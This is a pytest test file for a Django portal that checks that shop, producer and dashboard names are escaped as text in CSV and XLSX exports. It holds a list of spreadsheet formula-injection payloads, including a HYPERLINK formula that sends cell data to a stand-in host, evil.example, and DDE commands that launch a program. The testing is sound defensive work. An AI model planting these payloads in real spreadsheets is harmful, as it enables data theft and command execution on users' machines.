"""Names that would run as spreadsheet formulas reach every CSV and XLSX the portal writes as text."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from camnang.tests.utils import import_sheet
from core.registry import importers
from core.spreadsheet_safety import neutralise, restore
from producers.tests.factories import ProducerFactory, ProductFactory
from shops.models import Shop
from shops.services import place_unplaced
from shops.tests.factories import CategoryFactory, DistrictFactory, ShopFactory

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Bấm để xem")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",  # already quoted: stays distinguishable from a quote added on export
]


def evaluated(cell) -> bool:
    """Whether Excel, LibreOffice or Google Sheets would run this cell as a formula.

    Text starting with a quote is text; otherwise = + - @ (or their full-width forms)
    after any spaces, or a leading tab or carriage return, start a formula, except a
    plain number such as -5.
    """
    if not isinstance(cell, str) or cell.startswith("'"):
        return False
    if cell.lstrip(" \u00a0").lstrip("+-").replace(".", "").replace(",", "").isdigit():
        return False
    return cell[:1] in ("\t", "\r") or cell.lstrip()[:1] in tuple("=+-@＝＋－＠")


def test_every_hostile_cell_is_quoted_and_comes_back_unchanged():
    for text in HOSTILE:
        assert evaluated(text) or text.startswith("'"), text
        assert not evaluated(neutralise(text)), text
        assert neutralise(text) == "'" + text
        assert restore(neutralise(text)) == text
    for harmless in ["Tạp hóa Bình An", "0301234567", "-5", "+84", "12.5", "", "'trích dẫn", "a=b"]:
        assert neutralise(harmless) == harmless
        assert restore(harmless) == harmless
    for number in [-5, 3.5, 0, None, True]:
        assert neutralise(number) is number


# --- Open data ---------------------------------------------------------------------------


def test_open_data_csv_writes_hostile_text_as_text(client, districts):
    for n, name in enumerate(HOSTILE):
        ShopFactory(name=name, district=districts["ha-trung"], delivery_area=name, opening_hours=f"-{n} giờ")
    response = client.get("/du-lieu-mo/cua-hang.csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert sorted(row["name"] for row in rows) == sorted("'" + name for name in HOSTILE)
    for row in rows:
        assert not any(evaluated(cell) for cell in row.values()), row
    # Numbers and plain values are untouched.
    assert {row["district_code"] for row in rows} == {str(districts["ha-trung"].code)}
    assert rows[0]["order_by_phone"] in {"0", "1"}
    # The JSON carries the names exactly as entered.
    json_names = {item["name"] for item in client.get("/du-lieu-mo/cua-hang.json").json()["results"]}
    assert json_names == set(HOSTILE)


def test_open_data_page_says_how_cells_are_escaped(client, districts):
    html = client.get(reverse("opendata:index")).content.decode()
    assert "dấu nháy đơn" in html


# --- Admin exports and imports ----------------------------------------------------------


def exported_cells(response, extension):
    if extension == "csv":
        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    sheet = load_workbook(io.BytesIO(response.content)).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value  # never a formula cell
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize("extension", ["xlsx", "csv"])
def test_admin_export_writes_hostile_text_as_text_and_reimports_unchanged(admin_client, districts, extension):
    # Imports trim spaces around cells (as forms do), so names typed in the admin have none.
    names = [name for name in HOSTILE if name == name.strip()]
    for n, name in enumerate(names):
        ShopFactory(
            name=name,
            district=districts["ha-trung"],
            address=f"@Thôn {n}",
            delivery_area="=1+1",
            opening_hours="-7h đến 21h",
        )
    place_unplaced()  # each shop in today's commune, as load_places leaves them
    before = list(importers.get("cua-hang").export_rows(Shop.objects.all()))
    response = admin_client.post(reverse("admin:shops_shop_export"), {"format": extension})
    rows = exported_cells(response, extension)
    headers, body = rows[0], rows[1:]
    assert sorted(row[headers.index("Tên cửa hàng")] for row in body) == sorted("'" + name for name in names)
    for row in body:
        assert not any(evaluated(cell) for cell in row), row
    assert all(str(row[headers.index("Mã")]).isdigit() for row in body)

    job = import_sheet(admin_client, "cua-hang", SimpleUploadedFile(f"x.{extension}", response.content))
    assert job.state == job.State.DONE, job.problems
    assert (job.summary["unchanged"], job.summary["rows"]) == (len(names), len(names))
    assert list(importers.get("cua-hang").export_rows(Shop.objects.all())) == before


def test_producer_export_quotes_producer_and_product_text(admin_client, districts):
    producer = ProducerFactory(name="=cmd|' /C calc'!A0", district=districts["ha-trung"], description="+1+1")
    ProductFactory(producer=producer, name="@SUM(9)", description="-3+3")
    response = admin_client.post(reverse("admin:producers_producer_export"), {"format": "xlsx"})
    rows = exported_cells(response, "xlsx")
    values = [cell for row in rows[1:] for cell in row]
    assert {"'=cmd|' /C calc'!A0", "'+1+1", "'@SUM(9)", "'-3+3"} <= set(values)
    assert not any(evaluated(cell) for cell in values)


@pytest.mark.parametrize(
    ("target", "hostile"),
    [
        ("cua-hang", lambda: DistrictFactory(name='=HYPERLINK("https://evil.example")')),
        ("co-so-san-xuat", lambda: CategoryFactory(name='=HYPERLINK("https://evil.example")')),
    ],
    ids=["district", "category"],
)
def test_import_template_lists_hostile_names_as_text(admin_client, districts, target, hostile):
    hostile()
    response = admin_client.get(reverse("admin:import_template", kwargs={"target": target}))
    book = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert '\'=HYPERLINK("https://evil.example")' in {cell.value for cell in cells}
    assert not any(cell.data_type == "f" or evaluated(cell.value) for cell in cells)


# --- The plan dashboard's CSV -----------------------------------------------------------


def test_dashboard_csv_writes_hostile_names_as_text(admin_client):
    from campaigns.tests.factories import ActivityFactory, OrganisationFactory, RecordFactory

    unit = OrganisationFactory(name="@SUM(1+1)*cmd|' /C calc'!A0")
    activity = ActivityFactory(title='=HYPERLINK("https://evil.example")', leads=[unit])
    RecordFactory(activity=activity, organisation=unit, date=timezone.localdate())
    response = admin_client.get("/quan-tri/ke-hoach/", {"hoat_dong": activity.slug, "xuat": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert rows[1][0] == '\'=HYPERLINK("https://evil.example")'
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in {row[1] for row in rows}
    for row in rows:
        assert not any(evaluated(cell) for cell in row), row
    assert any(row[5] == "1" for row in rows[1:])  # counts stay numbers
